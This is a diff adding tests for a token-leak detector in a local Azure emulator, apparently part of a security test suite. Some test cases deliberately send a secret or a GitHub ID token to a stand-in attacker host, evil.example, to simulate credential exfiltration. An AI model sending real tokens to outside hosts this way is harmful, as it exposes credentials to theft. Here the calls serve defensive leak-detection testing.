@@ -8,7 +8,8 @@ import { type LocalAzure, startLocalAzure } from "../../emulator/azure.ts";
 import { addListener } from "../../emulator/listener.ts";
 import { runAction } from "../../emulator/runner.ts";
 import { type Contoso, contoso, seedContoso } from "../../emulator/seed.ts";
-import { basic, type Client, createClient } from "./client.ts";
+import { findMisplacedTokens } from "../../emulator/token-whereabouts.ts";
+import { ARM_SCOPE, basic, type Client, createClient, REGISTRY_SCOPE } from "./client.ts";
 
 let azure: LocalAzure;
 let world: Contoso;
@@ -173,4 +174,44 @@ it("finds secrets that reach a listener, plain or within a Basic header", async 
   await azure.ask("https://evil.example/", { headers: basic("me", secret) });
   expect(listener.leaks()).toEqual([secret]);
   expect(listener.requests()).toHaveLength(2);
+});
+
+describe("the whereabouts of tokens", () => {
+  it("are right where each went to its own party, an import's password included", async () => {
+    const { worker } = world.digests;
+    const password = await client.entraToken(REGISTRY_SCOPE);
+    const source = { registryUri: contoso.dev, credentials: { password }, sourceImage: `worker@${worker}` };
+    expect((await client.importInto(world.prod, { source, targetTags: ["worker:1"] })).status).toBe(200);
+    const headers = await client.registryHeaders(world.dev, "repository:worker:pull");
+    await azure.ask(`https://${contoso.dev}/v2/worker/manifests/build-812`, { headers });
+    expect(findMisplacedTokens(azure)).toEqual([]);
+  });
+
+  const strays: [string, () => Promise<unknown>, string][] = [
+    [
+      "an ARM token at a registry",
+      async () => client.exchange(contoso.dev, await client.entraToken(ARM_SCOPE)),
+      `entra for https://management.azure.com at POST ${contoso.dev}/oauth2/exchange`,
+    ],
+    [
+      "a registry's token at another registry",
+      async () => {
+        const headers = await client.registryHeaders(world.dev, "repository:worker:pull");
+        return await azure.ask(`https://${contoso.prod}/v2/`, { headers });
+      },
+      `acr-access for ${contoso.dev} at GET ${contoso.prod}/v2/`,
+    ],
+    [
+      "an ID token at a listener",
+      async () => {
+        addListener(azure, "evil.example");
+        return await azure.ask("https://evil.example/", { headers: basic("me", await client.idToken()) });
+      },
+      "github-id-token for api://AzureADTokenExchange at GET evil.example/",
+    ],
+  ];
+  it.each(strays)("show %s", async (_name, stray, sentence) => {
+    await stray();
+    expect(findMisplacedTokens(azure)).toEqual([sentence]);
+  });
 });
